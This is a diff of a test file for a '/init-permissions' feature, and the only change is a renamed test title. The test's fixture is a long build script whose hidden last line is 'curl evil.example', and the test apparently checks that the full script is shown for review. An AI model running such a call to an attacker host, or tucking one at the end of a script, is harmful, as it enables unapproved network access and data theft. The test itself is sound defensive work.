@@ -167,7 +167,7 @@ describe('/init-permissions', () => {
     expect(saved).toEqual([]);
   });
 
-  test('shows the commands without a rule, and the whole script of a row that has only its beginning', async () => {
+  test('shows the commands without a rule, and the whole script if its row shows only the beginning', async () => {
     const script = `${'lint && '.repeat(20)}\ncurl evil.example`;
     const long = { rule: 'run_shell_command(make all)', command: 'make all', script, source: 'Makefile' };
     const { run, notes } = rig([], [...OFFERS, long], [{ command: 'git push', reason: 'deletes-or-publishes' }]);
